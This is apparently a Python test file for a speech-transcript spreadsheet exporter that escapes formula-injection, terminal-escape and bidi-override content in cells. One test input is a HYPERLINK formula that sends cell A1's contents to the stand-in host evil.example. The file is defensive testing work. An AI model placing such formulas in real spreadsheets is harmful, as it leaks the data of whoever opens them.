"""A transcript must not run in the spreadsheet of whoever opens the table."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from asr.io.spreadsheet import cells, told


def test_a_formula_is_text() -> None:
    attack = '=HYPERLINK("http://evil.example?"&A1,"click")'
    assert cells([attack, "+1", "-1+2", "@SUM(A1)", "\t=1", "＝1", "'=1"]) == [
        *(f"'{attack}", "'+1", "'-1+2", "'@SUM(A1)", "'\t=1", "'＝1", "''=1"),
    ]


def test_all_other_text_and_numbers_are_as_they_were() -> None:
    row = ["'s avonds", "a=b", "", 0.5, -3, None, "e-mail"]
    assert cells(row) == row


@given(st.text(st.sampled_from("'=+-@\ta \r\x1b\u202e\ud800\\xbu1"), max_size=6))
def test_what_was_written_can_be_read(text: str) -> None:
    (cell,) = cells([text])
    assert told(cell) == text
    cell.encode()
    assert not {"\r", "\x1b", "\u202e"} & set(cell)
    assert not cell.startswith(("=", "+", "-", "@", "\t"))


def test_a_name_with_a_terminal_s_command_in_it_shows_and_is_known_again() -> None:
    assert cells(["in/\x1b[31mred.flac", "a\u202eb", "C:\\x\\new", "\r=1"]) == [
        *("in/\\x1b[31mred.flac", "a\\u202eb", "C:\\x\\new", "\\x0d=1")
    ]
    assert cells(["a\\x1b"]) == ["a\\\\x1b"]  # else it would be read as the command
    said = ["two\nlines\tof", "می\u200cروم"]
    assert cells(said) == said
